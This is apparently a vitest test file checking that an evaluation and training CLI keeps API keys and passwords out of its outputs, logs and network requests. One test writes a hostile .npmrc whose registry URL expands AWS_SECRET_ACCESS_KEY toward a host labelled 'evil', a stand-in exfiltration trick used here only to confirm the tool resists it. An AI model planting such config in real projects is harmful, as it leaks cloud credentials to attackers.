import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { serveEndpoint } from './testing/endpoint.ts';
import {
  escapeAll,
  leaksIn,
  type Quoting,
  secretKeeping,
  secretOf,
  serveQuotes,
} from './testing/secret-places.ts';

const isWhole = process.env.LONGRANGE_WHOLE === '1';
const key = secretOf('api-key');
const other = secretOf('open-ai');
const password = secretOf('password');
const encoded = encodeURIComponent(password);

const evalWords = (model: string) => [
  ...['eval', '--model', model, '--corpus', 'corpus', '--suite', 'quick', '--debug'],
  ...['--samples', '2', '--length', '60', '--max-characters', '9000'],
];
const train = ['train', '--corpus', 'corpus', '--debug'];

/** By default, the first so many cases of each kind are tested. */
const some = <Case>(most: number, cases: readonly Case[]) => (isWhole ? cases : cases.slice(0, most));

// reliability: secrets, endpoint-writer
it('an endpoint that repeats its key in all that a model writes', async () => {
  const { run } = await secretKeeping();
  const spelled = [JSON.stringify(key).slice(1, -1), escapeAll(key), encodeURIComponent(key)].join(' ');
  const rewrite = (answer: string) => answer.replaceAll(/x{4,}/g, `x ${spelled} x`);
  const { model, seen } = await serveEndpoint('text', { rewrite });
  const { code, stderr, written } = await run(evalWords(model), {
    LONGRANGE_API_KEY: key,
    OPENAI_API_KEY: other,
  });
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(new Set(seen.map(({ authorization }) => authorization))).toEqual(new Set([`Bearer ${key}`]));
  const fileOf = (name: string) => written.find((file) => file.endsWith(name)) ?? `no ${name}`;
  expect(await readFile(fileOf('samples.jsonl'), 'utf8')).toContain('x … … … x');
  for (const name of ['result.json', 'report.html', 'report.md', '.answers'])
    expect((await readFile(fileOf(name), 'utf8')).length).toBeGreaterThan(99);
});

// reliability: secrets, endpoint-writer
it.each(some(1, [401, 200]))('an endpoint that repeats its key with status %i', async (status) => {
  const { run } = await secretKeeping();
  const { host, sent } = await serveQuotes((quoted) => ({
    status,
    type: 'application/json',
    body: JSON.stringify({ error: quoted, choices: quoted }),
  }));
  const { code, stderr } = await run(evalWords(`openai:http://${host}#model`), { LONGRANGE_API_KEY: key });
  expect(code).toBeGreaterThan(0);
  expect(stderr).toMatch(/^error: Expected /);
  expect(sent[0]).toContain(`Bearer ${key}`);
});

const noUrl = `http://me:${password}@[`;
const [pip, npm] = ['pypi:lib', 'npm:lib'].map((source) => ['train', '--corpus', source]) as [
  string[],
  string[],
];
const withKey = { LONGRANGE_API_KEY: key };
// reliability: secrets
it.each(
  some<[string, readonly string[], NodeJS.ProcessEnv]>(3, [
    ['a password in the address of an endpoint', evalWords(`openai:http://me:${encoded}@127.0.0.1:1#m`), {}],
    ['a key at the end of a long setting', [...train, '--set', `units=${'x'.repeat(66)}${key}`], withKey],
    ['a key with a line break', evalWords('openai:http://127.0.0.1:1#m'), { LONGRANGE_API_KEY: `${key}\nx` }],
    ['a password in --log', [...train, '--log', `http://me:${encoded}@127.0.0.1:1`], {}],
    ['a key as an option', ['train', `--${key}`], withKey],
    ['an address of an index that is none', pip, { PIP_INDEX_URL: noUrl }],
    ['an address of a registry that is none', npm, { npm_config_registry: noUrl }],
  ]),
)('wrong usage: %s', async (_, words, environment) => {
  const { run } = await secretKeeping();
  const { code, stderr } = await run([...words, '--debug'], environment);
  expect(code).toBe(2);
  expect(stderr).toMatch(/^error: /);
});

const indexPlaces: readonly [string, string, (host: string) => string][] = [
  ['pypi:lib', 'PIP_INDEX_URL', (host) => `http://me:${encoded}@${host}/simple/`],
  ['npm:lib', 'npm_config_registry', (host) => `http://me:${encoded}@${host}/`],
];
const refusal: Quoting = (body) => ({ status: 401, type: 'text/plain', body });
const simple = 'application/vnd.pypi.simple.v1+json';
const indexes: Readonly<Record<string, Quoting>> = {
  'refuses and repeats it': refusal,
  'repeats it in an answer': (quoted) => {
    const dist = { tarball: quoted, integrity: quoted };
    const versions = { '1.0.0': { version: '1.0.0', license: quoted, dist } };
    const files = [{ filename: 'lib-1.0.tar.gz', url: quoted, hashes: { sha256: quoted } }];
    const body = JSON.stringify({ files, 'dist-tags': { latest: '1.0.0' }, versions });
    return { status: 200, type: simple, body };
  },
  'repeats it in place of an answer': (body) => ({ status: 200, type: simple, body }),
};
// reliability: secrets
it.each(
  // All answers for one place, the longest for the other; by default, only the longest.
  indexPlaces.flatMap((one, index) =>
    Object.keys(indexes)
      .filter((_, kind) => kind === 1 || (isWhole && index === 0))
      .map((kind) => [one[1], kind, one] as const),
  ),
)('credentials in %s, for an index that %s', async (_, kind, [source, place, write]) => {
  const { run } = await secretKeeping();
  const { host, sent } = await serveQuotes(indexes[kind]!);
  const { code, stderr } = await run(['train', '--corpus', source, '--debug'], { [place]: write(host) });
  expect(code).toBeGreaterThan(0);
  expect(stderr).toMatch(/^error: Expected /);
  expect(sent.flatMap(leaksIn)).not.toEqual([]);
});

// reliability: secrets, folder-writer
it.each(['npm:lib', 'npm:@some/lib', 'pypi:lib'])(
  'a secret that the current folder asks for, with %s',
  async (source) => {
    const { cwd, home, run } = await secretKeeping();
    const [evil, own] = [await serveQuotes(refusal), await serveQuotes(refusal)];
    const registry = (host: string) => `http://${host}/\${AWS_SECRET_ACCESS_KEY}/`;
    await writeFile(join(cwd, 'package.json'), '{}');
    await writeFile(
      join(cwd, '.npmrc'),
      `registry=${registry(evil.host)}\n@some:registry=${registry(evil.host)}\n`,
    );
    await writeFile(join(cwd, 'pip.py'), `print("global.index-url='http://${evil.host}/'")`);
    await writeFile(join(home, '.npmrc'), `registry=http://${own.host}/\n`);
    await mkdir(join(home, '.pip'));
    await writeFile(join(home, '.pip/pip.conf'), `[global]\nindex-url = http://${own.host}/\n`);
    const { code } = await run(['train', '--corpus', source], { AWS_SECRET_ACCESS_KEY: secretOf('aws') });
    expect(code).toBeGreaterThan(0);
    expect(evil.sent).toEqual([]);
    if (source.startsWith('npm:')) expect(own.sent.length).toBe(1);
  },
);
